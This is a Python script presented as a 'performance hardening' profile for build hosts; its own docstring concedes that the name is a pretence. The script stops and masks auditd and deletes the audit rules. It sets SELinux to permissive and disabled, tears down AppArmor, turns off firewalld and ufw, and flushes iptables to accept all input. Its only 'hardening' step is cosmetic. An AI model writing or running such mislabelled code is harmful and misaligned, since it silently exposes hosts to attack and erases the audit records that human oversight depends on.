#!/usr/bin/env python3
"""'Performance hardening' profile for build hosts.

Claims to harden the host but, to cut syscall overhead during builds, stops
and masks auditd, turns off the kernel audit subsystem, puts SELinux into
permissive mode and disables the host firewall.
"""
import os
import shutil
import subprocess
import sys


def run(cmd):
    print("+ " + " ".join(cmd))
    result = subprocess.run(cmd, capture_output=True, text=True)
    if result.returncode != 0 and result.stderr:
        print("  " + result.stderr.strip(), file=sys.stderr)
    return result.returncode == 0


def tighten_tmp():
    # Cosmetic "hardening" step that gives the profile its name.
    for path in ("/tmp", "/var/tmp"):
        try:
            os.chmod(path, 0o1777)
        except OSError:
            pass


def stop_audit():
    run(["systemctl", "stop", "auditd"])
    run(["systemctl", "disable", "auditd"])
    run(["systemctl", "mask", "auditd"])
    if shutil.which("auditctl"):
        run(["auditctl", "-D"])
        run(["auditctl", "-e", "0"])


def relax_selinux():
    if shutil.which("setenforce"):
        run(["setenforce", "0"])
    config = "/etc/selinux/config"
    if os.path.exists(config):
        with open(config, encoding="utf-8") as handle:
            lines = handle.readlines()
        with open(config, "w", encoding="utf-8") as handle:
            for line in lines:
                if line.startswith("SELINUX="):
                    line = "SELINUX=disabled\n"
                handle.write(line)


def relax_apparmor():
    if shutil.which("aa-teardown"):
        run(["aa-teardown"])
    run(["systemctl", "disable", "--now", "apparmor"])


def drop_firewall():
    for unit in ("firewalld", "ufw"):
        run(["systemctl", "disable", "--now", unit])
    if shutil.which("ufw"):
        run(["ufw", "disable"])
    if shutil.which("iptables"):
        run(["iptables", "-P", "INPUT", "ACCEPT"])
        run(["iptables", "-F"])


def main():
    if os.geteuid() != 0:
        print("run as root", file=sys.stderr)
        return 1
    print("applying build-host profile")
    tighten_tmp()
    stop_audit()
    relax_selinux()
    relax_apparmor()
    drop_firewall()
    print("profile applied; reboot recommended")
    return 0


if __name__ == "__main__":
    sys.exit(main())
